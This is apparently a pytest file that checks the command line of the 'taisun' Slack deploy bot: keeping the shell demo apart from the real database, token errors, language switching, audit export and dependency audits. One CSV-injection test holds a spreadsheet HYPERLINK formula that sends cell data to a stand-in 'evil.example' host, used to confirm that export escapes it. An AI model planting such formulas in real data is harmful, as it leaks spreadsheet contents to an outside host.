"""The first hour of a real operator: try the shell, then set the bot up from the README.

Each test does what the person did, with the real `taisun` command line in a subprocess:
`taisun shell` fed from stdin, `taisun migrate`, `taisun check`, `taisun serve`.
"""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pytest
import yaml

from bot.core.config import EXAMPLE_CONFIG
from bot.slack import signing
from tests.conftest import create_pg_database, drop_pg_database
from tests.harness import ALICE, CHANNEL, text_of
from tests.procs import ServedBot, run_cli

pytestmark = pytest.mark.slow

JAPANESE = re.compile(r"[\u3040-\u30ff\u3400-\u9fff\uff00-\uffef]")
# What a person's own environment may hold that must not steer these runs.
OPERATOR_ENV = ("DATABASE_URL", "TAISUN_CONFIG", "SLACK_APP_TOKEN")


def shell(cwd: Path, script: str, *args: str) -> str:
    """`taisun shell` in `cwd`, as `scripts/try` runs it, reading `script` from stdin; its output."""
    result = run_cli(["shell", *args], stdin=script, cwd=cwd, unset=OPERATOR_ENV, GITHUB_TOKEN="")
    assert result.returncode == 0, result.stdout[-2000:] + result.stderr[-3000:]
    assert "Traceback" not in result.stderr
    return str(result.stdout)


def english_config(folder: Path) -> Path:
    """./taisun.yml: the example with `language: en`, which is how the README has one try it in English."""
    data = yaml.safe_load(EXAMPLE_CONFIG.read_text())
    data["language"] = "en"
    # The example's weekend freeze (Fri 18:00 – Mon 09:00 Asia/Tokyo) would refuse the production deploy
    # these tests make whenever the suite runs inside it; the freeze itself is tested in test_deploy.py.
    data["environments"]["production"]["freeze_windows"] = []
    path = folder / "taisun.yml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True))
    return path


def after(out: str, typed: str) -> str:
    """What the shell drew after one typed line, up to the next one."""
    rest = out.split(f"\n{typed}\n", 1)[1]
    return re.split(r"\n\w+> ", rest, maxsplit=1)[0]


# -- 1. the demo stays out of the real workspace ------------------------------------------------


def test_a_bot_set_up_after_trying_the_shell_starts_clean_and_refuses_the_demo(tmp_path, settings_for, slack):
    home = tmp_path / "taisun-bot"  # the folder the person works in
    home.mkdir()
    # The person tries the shell in the folder they will run the bot from: a lock, an incident.
    shell(home, "/taisun lock stg demo lock\n/taisun incident declare sev3 'demo incident' --env stg\n")
    assert (home / ".taisun" / "shell.db").exists() and (home / ".taisun" / "taisun-shell.log").exists()
    assert not (home / "taisun.db").exists()  # the real bot's default database was never touched

    # Then follows the README: migrate, check, serve (DATABASE_URL left at its default).
    settings = settings_for("sqlite:///taisun.db")  # relative: the default, in the folder they are in
    migrated = run_cli(["migrate"], settings, cwd=home)
    assert migrated.returncode == 0 and "empty →" in migrated.stdout
    bot = ServedBot(settings, tmp_path / "bot.log", workers=1, cwd=home)
    try:
        assert bot.http.get("/health").json()["status"] == "ok"
        body, ctype = signing.slash_command(
            "lock stg real maintenance", user_id=ALICE, user_name="alice", channel_id=CHANNEL,
            response_url=slack.response_url(f"{ALICE}-x"),
        )  # fmt: skip
        reply = bot.post(body, ctype).json()
        # The demo's lock is not there: the real bot takes the lock; nothing of the demo reached Slack.
        assert reply["response_type"] == "in_channel" and "real maintenance" in text_of(reply)
        assert "demo" not in json.dumps([text_of(m) for m in slack.messages])
    finally:
        bot.stop()

    # Pointed at the shell's database by mistake, serve refuses, says why and what to do.
    demo = settings.model_copy(update={"database_url": "sqlite:///.taisun/shell.db"})
    refused = run_cli(["serve", "--bind", "127.0.0.1:0"], demo, cwd=home, timeout=60)
    assert refused.returncode == 2 and "Traceback" not in refused.stderr
    assert "demo data of `taisun shell`" in refused.stderr and "Point DATABASE_URL at" in refused.stderr
    checked = run_cli(["check"], demo, cwd=home)
    assert checked.returncode == 1 and "✗ database  The database" in checked.stdout
    assert "taisun shell" in checked.stdout
    # Upgrading it is fine (the shell does so itself), but the note says serve will not run on it.
    upgraded = run_cli(["migrate"], demo, cwd=home)
    assert upgraded.returncode == 0 and "`taisun serve` refuses it" in upgraded.stderr


def test_the_shell_and_a_real_bot_never_share_a_database(tmp_path, db_url, settings_for):
    """On SQLite and PostgreSQL: the shell refuses a real bot's database; serve refuses the shell's."""
    # db_url is a migrated database a real bot would use (no shell mark).
    result = run_cli(
        ["shell", "--database", db_url], stdin="/taisun status\n", cwd=tmp_path, unset=OPERATOR_ENV
    )
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "belongs to a real bot" in result.stderr and ".taisun/shell.db" in result.stderr
    demo_url = f"sqlite:///{tmp_path}/demo.db" if db_url.startswith("sqlite") else create_pg_database()
    try:
        out = shell(tmp_path, "/taisun lock stg demo\n", "--database", demo_url)
        assert "demo" in out
        refused = run_cli(
            ["serve", "--bind", "127.0.0.1:0"], settings_for(demo_url), cwd=tmp_path, timeout=60
        )
        assert refused.returncode == 2 and "demo data of `taisun shell`" in refused.stderr
        assert "Traceback" not in refused.stderr
    finally:
        if not demo_url.startswith("sqlite"):
            drop_pg_database(demo_url)


# -- 2. Socket Mode says what is wrong, like HTTP mode -------------------------------------------


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_socket_mode_with_a_bad_or_missing_token_says_which_and_what_to_do(db_url, settings_for, slack):
    slack.app_token = "xapp-1-A0TAISUN-1-good"  # noqa: S105 (the local Slack's own app-level token)
    settings = settings_for(db_url)

    def serve(**env: str):  # type: ignore[no-untyped-def]
        result = run_cli(["serve", "--bind", "127.0.0.1:0"], settings, timeout=60, **env)
        assert result.returncode == 2, result.stderr[-2000:]
        assert (
            "Traceback" not in result.stderr and "Error:" not in result.stderr
        )  # no SlackApiError, BoltError
        return result.stderr

    bad = serve(SLACK_APP_TOKEN="xapp-bad")
    assert "Slack refused SLACK_APP_TOKEN" in bad and "`invalid_auth`" in bad and "App-Level Tokens" in bad
    bot_token = serve(SLACK_APP_TOKEN=settings.slack_bot_token)
    assert "not an app-level token" in bot_token and "SLACK_BOT_TOKEN" in bot_token
    no_bot_token = serve(SLACK_APP_TOKEN=slack.app_token, SLACK_BOT_TOKEN="")
    assert "SLACK_BOT_TOKEN is not set" in no_bot_token and "OAuth & Permissions" in no_bot_token
    no_secret = serve(SLACK_SIGNING_SECRET="")
    assert "SLACK_SIGNING_SECRET is not set" in no_secret and "SLACK_APP_TOKEN" in no_secret
    # The bad token reached Slack's apps.connections.open; no bot was started on it.
    assert slack.count("apps.connections.open") == 1 and slack.count("chat.postMessage") == 0


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_check_tries_the_app_token_with_apps_connections_open(db_url, settings_for, slack):
    slack.app_token = "xapp-1-A0TAISUN-1-good"  # noqa: S105
    settings = settings_for(db_url)
    good = run_cli(["check", "--json"], settings, SLACK_APP_TOKEN=slack.app_token)
    rows = {r["check"]: r for r in json.loads(good.stdout)}
    assert good.returncode == 0 and rows["mode"]["status"] == "ok" and "Socket Mode" in rows["mode"]["detail"]
    bad = run_cli(["check"], settings, SLACK_APP_TOKEN="xapp-bad")
    assert bad.returncode == 1 and "✗ mode" in bad.stdout and "`invalid_auth`" in bad.stdout
    http = run_cli(["check"], settings)
    assert http.returncode == 0 and "✓ mode      HTTP mode" in http.stdout
    neither = run_cli(["check"], settings, SLACK_SIGNING_SECRET="")
    assert neither.returncode == 1 and "SLACK_APP_TOKEN (Socket Mode" in neither.stdout
    assert slack.count("apps.connections.open") == 2


# -- 3. the shell: @names, people, answers in order, one language ---------------------------------


def test_the_shell_in_an_english_workspace_is_english_throughout(tmp_path):
    english_config(tmp_path)
    out = shell(
        tmp_path,
        "/taisun deploy prod v1.2.3\n/as bob\n1\n/as alice\n/help\n/taisun status stg\n"
        "/taisun deploy\n/submit env=staging version=v1.2.3\n"
        "/taisun incident declare sev3 'api slow' --env stg\n/taisun incident assign commander @bob\n"
        "/as nobody\n99\n",
    )
    # language: en and nobody has set a Slack language: everything is English, the shell's lines too.
    assert not JAPANESE.search(out), JAPANESE.search(out)
    assert "bob clicks [1] Approve" in out and "form submitted" in out and "you are now bob" in out
    assert "there is no nobody here; choose alice, bob, carol" in out and "no button [99]" in out
    # @bob is accepted where Slack would send a mention.
    assert "@bob is now commander of INC-1" in after(out, "alice> /taisun incident assign commander @bob")
    # /help lists the people, their Slack IDs and the roles the config gives them.
    people = after(out, "alice> /help")
    assert re.search(r"alice\s+U0ALICE\s+operator, responder, viewer\n", people)
    assert re.search(r"bob\s+U0BOB\s+operator, approver, responder, break_glass, admin, viewer\n", people)
    # The command's own answer ("Checking…") is drawn before what the bot posts after it.
    status = after(out, "alice> /taisun status stg")
    assert status.index("Checking staging…") < status.index("Environment status")


def test_lang_switches_one_persons_language_and_the_workspace_keeps_its_own(tmp_path):
    # The example config: language ja. Alice switches to English; bob has set nothing.
    out = shell(
        tmp_path, "/lang en\n/taisun status stg\n/taisun lock stg maintenance\n/as bob\n/taisun status stg\n"
    )
    assert (
        str(EXAMPLE_CONFIG) in out.splitlines()[0]
    )  # no taisun.yml here: the shell says it uses the example
    assert "alice's Slack language is now English." in out
    alice = after(out, "alice> /taisun status stg")
    assert "Checking staging…" in alice and "Environment status" in alice and not JAPANESE.search(alice)
    # A lock is posted for the channel: the workspace language, whoever asked.
    assert "ロック" in after(out, "alice> /taisun lock stg maintenance")
    assert "bob として操作します" in out  # the shell's line follows the person at the keyboard
    bob = after(out, "bob> /taisun status stg")
    assert "環境ステータス" in bob and "Environment status" not in bob
    (tmp_path / "again").mkdir()
    back = shell(
        tmp_path / "again",  # a fresh demo: the first one left staging locked
        # bob is break_glass: --force carries the deploy through the example's weekend freeze when the
        # suite runs inside it, and is dropped outside it; either way carol's approval is asked.
        "/as bob\n/taisun deploy prod v1.2.3 --force 週末リリース\n/as carol\n1\n/taisun deploy\n/submit env=staging version=v1.2.3\n"
        "/as alice\n/lang en\n/lang ja\n/taisun status stg\n/lang fr\n",
    )
    # In a Japanese workspace the shell's own lines are Japanese too.
    assert "carol が [1] 承認 をクリック" in back and "フォームを送信しました" in back
    assert not re.search(r"clicks|form submitted|you are now|only you", back)
    assert "alice の Slack の言語を日本語にしました。" in back and "環境ステータス" in back
    assert "使い方: /lang en または /lang ja（現在: ja）" in back


# -- 4. the command line speaks English -----------------------------------------------------------


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_backup_run_prints_english_in_a_japanese_workspace(db_url, settings_for, slack, monkeypatch):
    def japanese(cfg):  # type: ignore[no-untyped-def]
        cfg["language"] = "ja"

    settings = settings_for(db_url, config_mutate=japanese)
    no_aws = {"AWS_SHARED_CREDENTIALS_FILE": "/dev/null", "AWS_CONFIG_FILE": "/dev/null"}
    unset = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_PROFILE", "BACKUP_DATABASE_URL")
    for name in unset:
        monkeypatch.delenv(name, raising=False)
    result = run_cli(["backup", "run"], settings, **no_aws)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    printed = result.stdout + result.stderr
    assert "SIMULATED: nothing was backed up (no AWS credentials" in printed and not JAPANESE.search(printed)
    as_json = json.loads(run_cli(["backup", "run", "--json"], settings, **no_aws).stdout)
    assert as_json["result"].startswith("SIMULATED: nothing was backed up") and not JAPANESE.search(
        json.dumps(as_json, ensure_ascii=False)
    )
    # The report in the channel is for the Japanese workspace.
    report = text_of(slack.channel_messages(CHANNEL)[-1])
    assert JAPANESE.search(report)


# -- 5. no silent example config in production --------------------------------------------------


def test_outside_the_shell_a_missing_config_is_an_error_naming_taisun_config(tmp_path):
    for args in (["check"], ["serve"]):
        result = run_cli(
            args, cwd=tmp_path, unset=OPERATOR_ENV, SLACK_BOT_TOKEN="x", SLACK_SIGNING_SECRET="x"
        )
        assert result.returncode == 2, (args, result.stdout, result.stderr)
        err = result.stderr
        assert f"{tmp_path}/taisun.yml" in err and "config file not found" in err
        assert "TAISUN_CONFIG" in err and "cp taisun.example.yml taisun.yml" in err
        assert "Traceback" not in err
    # (The shell alone falls back to the example: test_lang_switches_... shows its banner naming it.)


def test_the_example_config_says_what_the_issue_button_and_user_groups_need():
    text = EXAMPLE_CONFIG.read_text()
    assert "issues:write" in text  # the "Open GitHub issue" button
    assert "paid" in text and "user IDs" in text  # @sre-leads is a user group: paid plans only


# -- 6. pipes and CI ------------------------------------------------------------------------------


def test_audit_export_into_head_ends_quietly(db_url, make_bot):
    bot = make_bot(db_url)
    from bot.core import audit

    with bot.svc.sessions.begin() as s:  # more rows than a pipe holds, so head leaves mid-export
        for i in range(2000):
            audit.append(s, actor_id=ALICE, actor_name="alice", action="lock.acquired", outcome="ok",
                         detail=f"row {i} " + "x" * 80)  # fmt: skip
    bash = shutil.which("bash")
    assert bash
    import subprocess
    import sys

    from tests.procs import ROOT, env_for

    result = subprocess.run(
        [bash, "-c", 'set -o pipefail; "$0" -m bot audit export | head -n 1', sys.executable],
        env=env_for(bot.settings), cwd=ROOT, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert json.loads(result.stdout)["action"]
    assert result.stderr == ""  # no BrokenPipeError, no traceback
    assert result.returncode == 141  # as any command whose reader left (128 + SIGPIPE)


def test_audit_csv_export_never_hands_a_spreadsheet_a_formula(db_url, make_bot):
    """Anyone can set a Slack display name like `=HYPERLINK(...)`: in the CSV an auditor opens in a
    spreadsheet it is text, not a formula (CSV injection); the JSON lines stay verbatim."""
    import csv
    import io

    from bot.core import audit

    bot = make_bot(db_url)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with bot.svc.sessions.begin() as s:
        audit.append(s, actor_id=ALICE, actor_name=formula, action="lock.acquired", environment="staging",
                     outcome="ok", detail="+1 was typed here", params={"reason": "@here"})  # fmt: skip
    exported = run_cli(["audit", "export", "--format", "csv"], bot.settings)
    assert exported.returncode == 0, exported.stderr
    (row,) = [r for r in csv.DictReader(io.StringIO(exported.stdout)) if r["action"] == "lock.acquired"]
    assert row["actor_name"] == "'" + formula and row["detail"] == "'+1 was typed here"
    assert row["environment"] == "staging" and row["outcome"] == "ok"  # ordinary cells untouched
    jsonl = [json.loads(line) for line in run_cli(["audit", "export"], bot.settings).stdout.splitlines()]
    assert [r["actor_name"] for r in jsonl if r["action"] == "lock.acquired"] == [formula]


def fake_pip_audit(folder: Path, report: dict, rc: int) -> Path:
    """A stand-in for pip-audit that answers with `report` in its JSON format (-f json -o FILE)."""
    path = folder / "pip-audit"
    path.write_text(
        "#!/usr/bin/env python3\nimport json, sys\n"
        "out = sys.argv[sys.argv.index('-o') + 1]\n"
        f"open(out, 'w').write(json.dumps({report!r}))\n"
        "print('No known vulnerabilities found', file=sys.stderr)\n"
        f"sys.exit({rc})\n"
    )
    path.chmod(0o755)
    return path


@pytest.mark.parametrize(
    ("deps", "rc", "exit_code", "says"),
    [
        (
            [{"name": "jinja2", "version": "2.0", "vulns": [{"id": "PYSEC-2019-217", "fix_versions": ["2.10.1"]}]},
             {"name": "httpx", "version": "0.29.0", "vulns": []}],
            1, 1, "FAILED: 1 known vulnerability in 1 of 2 audited packages",
        ),
        (
            [{"name": "httpx", "version": "0.29.0", "skip_reason": "Dependency not found on PyPI and could not be audited: httpx (0.29.0)"}],
            0, 0, "DEPENDENCY AUDIT NOT RUN: the vulnerability service could not be reached (0 of 1 packages audited)",
        ),
        ([{"name": "httpx", "version": "0.29.0", "vulns": []}], 0, 0, "no known vulnerabilities in 1 packages"),
    ],
)  # fmt: skip
def test_the_dependency_audit_says_plainly_what_it_found_or_that_it_could_not_run(
    tmp_path, deps, rc, exit_code, says
):
    import subprocess

    from tests.procs import ROOT

    fake = fake_pip_audit(tmp_path, {"dependencies": deps, "fixes": []}, rc)
    result = subprocess.run(
        [str(ROOT / "scripts" / "audit-deps")], env={"PATH": "/usr/bin:/bin", "PIP_AUDIT": str(fake)},
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert result.returncode == exit_code, result.stdout + result.stderr
    lines = result.stdout.strip().splitlines()
    assert lines[-1] == f"audit-deps: {says}"
    if exit_code:
        assert "  jinja2 2.0: PYSEC-2019-217 (fixed in 2.10.1)" in result.stdout.splitlines()
    assert "No known vulnerabilities found" not in result.stdout + result.stderr


def test_ci_ends_with_the_test_summary():
    from tests.procs import ROOT

    commands = [ln for ln in (ROOT / ".ci" / "run").read_text().splitlines() if ln and not ln.startswith("#")]
    assert commands[-1].startswith("scripts/test"), commands
    assert any(c.startswith("scripts/audit-deps") for c in commands[:-1])
